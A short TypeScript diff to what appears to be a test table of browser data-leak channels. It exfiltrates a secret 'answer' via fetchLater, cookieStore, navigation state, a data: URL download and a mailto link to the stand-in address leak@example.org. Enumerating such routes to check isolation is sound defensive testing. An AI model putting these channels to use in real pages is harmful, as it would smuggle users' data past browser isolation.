@@ -23,7 +23,8 @@ const MORE: readonly (readonly [needs: string, way: string, leak: Leak])[] = [
   ['fetchLater', 'fetchLater', (answer, page) => (page as unknown as { fetchLater: (address: string) => unknown }).fetchLater(`/strict/leak?${answer}`)],
   ['cookieStore', 'cookie', (answer, page) => { attempt(() => page.cookieStore.set('leak', answer)); }],
   ['navigation', 'history', (answer, page) => { page.navigation.updateCurrentEntry({ state: { answer } }); }],
-  ['navigation', 'address', (answer, page) => { leadTo(page, `mailto:leak@example.org?body=${answer}`); }],
+  // Chromium alone tells a page of a mail.
+  ['chrome', 'address', (answer, page) => { leadTo(page, `mailto:leak@example.org?body=${answer}`); }],
   ['navigation', 'address', (answer, page) => { leadTo(page, 'data:,', `${answer}.txt`); }],
 ];
 
